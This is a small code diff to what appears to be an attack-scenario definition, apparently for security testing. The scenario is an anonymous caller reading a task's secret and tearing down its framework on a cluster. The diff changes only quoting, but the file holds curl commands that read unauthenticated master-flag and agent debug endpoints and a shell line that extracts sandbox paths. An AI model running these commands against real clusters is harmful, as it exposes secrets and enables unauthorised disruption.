@@ -16,7 +16,7 @@ const SANDBOX = "s=$(curl -s http://${target.agent}/files/debug | grep -o '/fram
 export const anonymousHttp = {
   id: "anonymous-http",
   title: "an anonymous caller reads a task's secret and tears its framework down",
-  byHand: "curl -s ${url.master}/master/flags; curl -s \"${url.agent}/files/debug\"",
+  byHand: 'curl -s ${url.master}/master/flags; curl -s "${url.agent}/files/debug"',
   actions: [
     {
       do: "execute" as const,
